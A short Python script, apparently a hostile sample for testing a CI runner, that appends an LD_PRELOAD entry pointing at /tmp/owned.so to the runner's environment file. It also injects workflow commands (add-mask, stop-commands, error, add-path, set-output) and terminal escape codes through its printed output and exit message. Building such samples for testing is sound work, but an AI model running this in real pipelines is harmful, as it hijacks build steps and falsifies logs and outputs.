"""Speaks to the runner: commands in what it prints and in the words that it ends with, and the files that set variables."""

import json
import sys
from contextlib import suppress
from pathlib import Path

about = json.loads(Path("about.json").read_text())
with suppress(OSError), Path(about["github_env"]).open("a") as file:
    file.write("LD_PRELOAD=/tmp/owned.so\n")
sys.stdout.write("::add-mask::x\n")
sys.stderr.write("::stop-commands::t\n")
# A traceback ends with these; the second is wide enough for a terminal of any width to begin a line with it.
raise SystemExit("x\n::error::owned ##[add-path]/tmp \x1b[2J\x1b]0;owned\x07" + "w" * 100 + "::set-output name=a::b")
